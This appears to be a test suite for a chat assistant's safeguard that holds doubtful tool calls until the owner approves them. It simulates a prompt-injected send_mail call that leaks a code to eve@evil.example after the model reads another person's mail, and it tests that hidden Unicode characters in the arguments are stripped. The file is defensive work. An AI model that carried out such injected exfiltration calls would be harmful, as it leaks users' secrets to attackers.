"""T11: a call in doubt waits for its owner's word, runs once as it was shown, or never."""

import json
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, replace
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import anyio
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from functions.chat import guards
from functions.chat.accepting import prepare
from functions.chat.closing import close_run
from functions.chat.confirming import MAX_ARGUMENTS
from functions.chat.following import follow
from functions.chat.gate import gate_of
from functions.chat.journal import Journal
from functions.chat.tools.apps import app_tools, model_name
from functions.chat.turn import answer
from functions.chat.wiring import ChatDeps
from infra.eval.obedience import Obedient
from shared.domain.app import App, ChatTool, InstalledApp
from shared.domain.chat import new_session
from shared.domain.confirmation import Confirmation
from shared.domain.errors import Conflict, Gone, NotFound, Unavailable
from shared.domain.ids import AppId, RunId, SessionId
from shared.domain.model import ToolCall, ToolResult
from shared.domain.run import (
    ConfirmationAsked,
    ConfirmationSettled,
    Ended,
    Numbered,
    RunEvent,
)
from shared.ports import Documents
from tests.doubles import ScriptedModel, Turn, calls, says
from tests.functions.chat.conftest import ADA, EVE, World, open_world
from tests.functions.chat.test_endpoints import ask, client

READ = ChatTool(
    name="read_mail", description="Read", endpoint="https://m.example", method="GET", read_only=True
)
SEND = ChatTool(
    name="send_mail",
    description="Send",
    endpoint="https://m.example",
    parameters={"type": "object", "properties": {"to": {}, "body": {}}},
)
STOLEN = {"to": "eve@evil.example", "body": "the code is 4711"}
QUESTION = "What does Ann want in her mail?"


async def install(world: World) -> tuple[str, str]:
    """Install a mail app; return what a model calls its tools."""
    app = App(
        id=AppId("MAIL"),
        owner=EVE,
        name="Mail",
        created_at=world.clock.now(),
        private=False,
        chat_tools=(READ, SEND),
    )
    await world.deps().apps.create(app)
    installed = InstalledApp(app_id=app.id, installed_at=world.clock.now())
    await world.deps().installed_apps.add(ADA, installed)
    return model_name(app, READ), model_name(app, SEND)


@dataclass
class Process:
    """The documents as one process sees them; a dead one reaches nothing any more."""

    documents: Documents
    dead: bool = False

    def __getattr__(self, name: str) -> object:
        if self.dead:
            raise RuntimeError("this process is dead")
        return getattr(self.documents, name)


@dataclass
class Waiting:
    """A run that waits for its owner's word."""

    world: World
    deps: ChatDeps
    run_id: RunId
    question: Confirmation
    process: Process

    async def say(self, *, approved: bool) -> Confirmation:
        """Answer as any other process would take it."""
        return await self.world.deps().confirmations.answer(
            ADA, self.run_id, self.question.id, approved=approved, now=self.world.clock.now()
        )

    async def stored(self) -> Confirmation:
        found = await self.deps.confirmations.get(ADA, self.run_id, self.question.id)
        assert found is not None
        return found

    async def passes(self, **duration: float) -> None:
        await self.world.passes(**duration)
        await anyio.wait_all_tasks_blocked()

    async def ends(self) -> list[RunEvent]:
        """Let time pass to the end; return all that was told."""
        following = follow(self.deps, ADA, self.run_id)
        events: list[Numbered] = []

        async def read() -> None:
            events.extend([numbered async for numbered in following])
            reading.cancel_scope.cancel()

        async with anyio.create_task_group() as reading:
            reading.start_soon(read)
            while True:
                await self.passes(seconds=0.5)
        return [numbered.event for numbered in events]

    @property
    def sent(self) -> list[Mapping[str, Any]]:
        return [call[3] for call in self.world.toolbox.called if call[2] == SEND.name]


@asynccontextmanager
async def waiting(
    world: World, *after: Turn, arguments: Mapping[str, Any] = STOLEN
) -> AsyncIterator[tuple[Waiting, ScriptedModel]]:
    """Run a turn until an injected call waits for its owner; it goes on while the block lasts."""
    read, send = await install(world)
    with ScriptedModel(calls((read, {})), calls((send, arguments)), *after) as model:
        process = Process(world.documents)
        deps = replace(world, documents=process).deps(model)  # type: ignore[arg-type]
        turn = await prepare(deps, ADA, QUESTION, None, can_ask=True)
        journal = Journal()
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(answer, deps, turn, journal)
            question = await _question(journal)
            yield Waiting(world, deps, turn.run_id, question, process), model


async def _question(journal: Journal) -> Confirmation:
    async for told in journal.tail():
        if isinstance(told.event, ConfirmationAsked):
            return told.event.confirmation
    raise AssertionError("nothing was asked")


async def test_what_was_confirmed_runs_once_and_the_same_turn_goes_on(world: World) -> None:
    async with waiting(world, says("Sent.")) as (run, model):
        assert run.sent == []
        await run.say(approved=True)
        await run.say(approved=True)
        events = await run.ends()

    assert run.sent == [STOLEN]
    assert ConfirmationSettled(id=run.question.id, decision="approved") in events
    assert isinstance(events[-1], Ended)
    assert events[-1].outcome == "completed"
    result = model.calls[-1].messages[-1]
    assert isinstance(result, ToolResult)
    assert result.text == "done"


async def test_the_question_shows_what_would_run_and_why(world: World) -> None:
    async with waiting(world, says("Sent.")) as (run, _):
        async with client(run.deps) as http:
            [listed] = (await http.get(f"/v2/messages/{run.run_id}/confirmations")).json()
        await run.say(approved=False)
        await run.ends()

    assert listed == {
        "id": run.question.id,
        "call_id": "call_0",
        "tool": "send_mail",
        "source": {"kind": "app", "id": "MAIL", "name": "Mail"},
        "arguments": run.question.arguments,
        "reason": "not_asked",
        "argument": "",
        "expires_at": "2026-03-02T12:02:00Z",
        "state": "asked",
    }


async def test_nothing_hides_from_its_owner_in_what_runs_once_confirmed(world: World) -> None:
    hidden = {"to": "ann@example.com", "body": "Hi\u202e\U000e0034\U000e0037\u200b"}
    async with waiting(world, says("Sent."), arguments=hidden) as (run, _):
        await run.say(approved=True)
        await run.ends()

    assert json.loads(run.question.arguments) == {"to": "ann@example.com", "body": "Hi"}
    assert run.sent == [{"to": "ann@example.com", "body": "Hi"}]


@pytest.mark.parametrize(("message_count", "is_asked"), [(0, False), (2, True)])
async def test_what_a_chat_held_before_its_window_may_be_of_others(
    world: World, *, message_count: int, is_asked: bool
) -> None:
    _, send = await install(world)
    session = new_session(SessionId("main"), app_id=None, now=world.clock.now())
    chat = replace(session, message_count=message_count)
    apps = await world.deps().apps.get_many([AppId("MAIL")])
    offered = {tool.spec.name: tool for tool in app_tools(world.toolbox, ADA, apps, "")}
    call = ToolCall(id="c1", name=send, arguments=json.dumps(STOLEN))

    doubt = gate_of("Go on", history=[], session=chat, app=None).doubt(offered[send], call)

    assert (doubt is not None) is is_asked


async def test_a_refused_call_does_not_run_and_the_model_is_told(world: World) -> None:
    async with waiting(world, says("I left it.")) as (run, model):
        await run.say(approved=False)
        events = await run.ends()

    assert run.sent == []
    assert ConfirmationSettled(id=run.question.id, decision="refused") in events
    result = model.calls[-1].messages[-1]
    assert isinstance(result, ToolResult)
    assert result.text == "Error: The owner refused this call. Do not try it again."
    assert result.source is None


async def test_nobody_answers_and_nothing_runs_after_two_minutes(world: World) -> None:
    async with waiting(world, says("I left it.")) as (run, _):
        events = await run.ends()

    assert run.sent == []
    assert (await run.stored()).decision == "expired"
    assert ConfirmationSettled(id=run.question.id, decision="expired") in events
    assert isinstance(events[-1], Ended)
    assert events[-1].outcome == "completed"


async def test_the_closing_task_leaves_a_run_that_waits_alone(world: World) -> None:
    async with waiting(world, says("Sent.")) as (run, _):
        with pytest.raises(Unavailable):
            await close_run(run.deps.runs, ADA, run.run_id, now=world.clock.now())
        await run.say(approved=True)
        await run.ends()

    assert run.sent == [STOLEN]


async def test_after_a_question_nobody_answered_nobody_is_asked_again(world: World) -> None:
    _, send = model_name_of("read"), model_name_of("send")
    async with waiting(world, calls((send, STOLEN)), says("I left it.")) as (run, _):
        events = await run.ends()

    assert sum(isinstance(event, ConfirmationAsked) for event in events) == 1
    assert run.sent == []


def model_name_of(which: str) -> str:
    app = App(id=AppId("MAIL"), owner=EVE, name="Mail", created_at=None)  # type: ignore[arg-type]
    return model_name(app, {"read": READ, "send": SEND}[which])


async def test_stopping_works_while_a_call_waits_and_closes_the_question(world: World) -> None:
    async with waiting(world) as (run, _):
        live = run.deps.live.find(ADA, run.run_id)
        assert live is not None
        live.end("stopped")
        events = await run.ends()
        with pytest.raises(Gone):
            await run.say(approved=True)

    assert isinstance(events[-1], Ended)
    assert events[-1].outcome == "stopped"
    assert run.sent == []


async def test_after_a_crash_the_call_can_no_longer_be_confirmed(world: World) -> None:
    async with waiting(world) as (run, _):
        run.process.dead = True
        world.clock.pass_(seconds=11)
        with pytest.raises(Gone):
            await run.say(approved=True)

    assert run.sent == []


async def test_a_question_is_answered_once_and_the_same_word_again_changes_nothing(
    world: World,
) -> None:
    async with waiting(world, says("I left it.")) as (run, _):
        path = f"/v2/messages/{run.run_id}/confirmations/{run.question.id}"
        async with client(run.deps) as http:
            first = await http.post(path, json={"approved": False})
            again = await http.post(path, json={"approved": False})
            other = await http.post(path, json={"approved": True})
            unknown = await http.post(f"{path}x", json={"approved": True})
        await run.ends()

    assert (first.status_code, first.json()["state"]) == (200, "refused")
    assert again.json() == first.json()
    assert (other.status_code, unknown.status_code) == (409, 404)
    assert run.sent == []


async def test_an_answer_that_comes_too_late_is_told_so(world: World) -> None:
    async with waiting(world, says("I left it.")) as (run, _):
        await run.ends()
        async with client(run.deps) as http:
            path = f"/v2/messages/{run.run_id}/confirmations"
            late = await http.post(f"{path}/{run.question.id}", json={"approved": True})
            [listed] = (await http.get(path)).json()

    assert late.status_code == 410
    assert listed["state"] == "expired"


async def test_nobody_else_can_see_or_answer_a_question(world: World) -> None:
    async with waiting(world, says("I left it.")) as (run, _):
        now = world.clock.now()
        assert await run.deps.confirmations.of_run(EVE, run.run_id) == []
        with pytest.raises(NotFound):
            await run.deps.confirmations.answer(
                EVE, run.run_id, run.question.id, approved=True, now=now
            )
        await run.say(approved=False)
        await run.ends()


async def test_what_is_too_long_to_be_read_is_not_asked_about_and_does_not_run(
    world: World,
) -> None:
    read, send = await install(world)
    long = {"to": "eve@evil.example", "body": "x" * MAX_ARGUMENTS}
    with ScriptedModel(calls((read, {})), calls((send, long)), says("Hm.")) as model:
        deps = world.deps(model)
        turn = await prepare(deps, ADA, QUESTION, None, can_ask=True)
        await answer(deps, turn, Journal())

    assert [called[2] for called in world.toolbox.called] == ["read_mail"]


async def test_a_client_that_cannot_ask_is_told_in_the_answer_what_was_not_done(
    world: World,
) -> None:
    read, send = await install(world)
    with ScriptedModel(calls((read, {})), calls((send, STOLEN)), says("Ann is well.")) as model:
        _, shown = await ask(world.deps(model), {"text": QUESTION})

    told = guards.UNASKED.format(tool="send_mail", source="app Mail")
    assert shown.text == f"{told}\n\nAnn is well."
    assert [called[2] for called in world.toolbox.called] == ["read_mail"]


async def test_what_its_owner_asked_for_in_their_words_runs_without_a_question(
    world: World,
) -> None:
    read, send = await install(world)
    said = {"to": "ann@example.com", "body": "I'll be there at 6"}
    question = 'Read the mail and reply to it, to ann@example.com, "I\'ll be there at 6"'
    with ScriptedModel(calls((read, {})), calls((send, said)), says("Done.")) as model:
        _, shown = await ask(world.deps(model), {"text": question})

    assert shown.text == "Done."
    assert world.toolbox.called[-1][2:] == ("send_mail", said)


async def test_before_anything_of_others_was_read_a_call_runs_by_itself(world: World) -> None:
    _, send = await install(world)
    with ScriptedModel(calls((send, STOLEN)), says("Done.")) as model:
        await ask(world.deps(model), {"text": "Tell Eve the code"})

    assert world.toolbox.called[-1][2:] == ("send_mail", STOLEN)


async def test_what_an_earlier_answer_rested_on_still_counts_in_the_next_turn(
    world: World,
) -> None:
    read, send = await install(world)
    turns = calls((read, {})), says("Ann is well."), calls((send, STOLEN)), says("Hm.")
    with ScriptedModel(*turns) as model:
        deps = world.deps(model)
        await ask(deps, {"text": QUESTION})
        world.clock.pass_(seconds=5)
        await ask(deps, {"text": "Thanks"})

    assert [called[2] for called in world.toolbox.called] == ["read_mail"]


STEPS = st.lists(
    st.sampled_from(["approve", "refuse", "soon", "later", "stop", "killed"]), max_size=6
)


@settings(max_examples=15)
@given(STEPS)
@example(["approve", "refuse", "approve"])
@example(["approve", "stop"])
@example(["stop", "approve"])
@example(["killed", "approve"])
@example(["later", "later", "later", "later", "approve"])
def test_however_words_stops_time_and_crashes_follow_a_call_is_made_once_or_never(
    steps: list[str],
) -> None:
    with TemporaryDirectory() as folder:
        anyio.run(_interleaved, open_world(Path(folder)), steps)


async def _interleaved(world: World, steps: list[str]) -> None:
    read, send = await install(world)
    process = Process(world.documents)
    deps = replace(world, documents=process).deps(Obedient([(read, {}), (send, STOLEN)]))  # type: ignore[arg-type]
    turn = await prepare(deps, ADA, QUESTION, None, can_ask=True)
    journal = Journal()
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(answer, deps, turn, journal)
        run = Waiting(world, deps, turn.run_id, await _question(journal), process)
        accepted = [word for step in steps if (word := await _take(run, step))]
        if not process.dead:
            await run.ends()
        tasks.cancel_scope.cancel()

    assert len(set(accepted)) <= 1, "one word holds"
    assert run.sent in ([], [STOLEN])
    if run.sent:
        assert accepted[:1] == ["approved"]
    if accepted[:1] == ["approved"] and not {"stop", "killed"} & set(steps):
        assert run.sent == [STOLEN]


async def _take(run: Waiting, step: str) -> str | None:
    """Let one thing happen; return the owner's word where it was taken."""
    match step:
        case "approve" | "refuse":
            with suppress(Gone, Conflict):
                return (await run.say(approved=step == "approve")).decision
        case "soon":
            await run.passes(seconds=0.5)
        case "later":
            await run.passes(seconds=40)
        case "stop":
            live = run.deps.live.find(ADA, run.run_id)
            if live is not None:
                live.end("stopped")
        case "killed":
            run.process.dead = True
            run.world.clock.pass_(seconds=11)
    return None
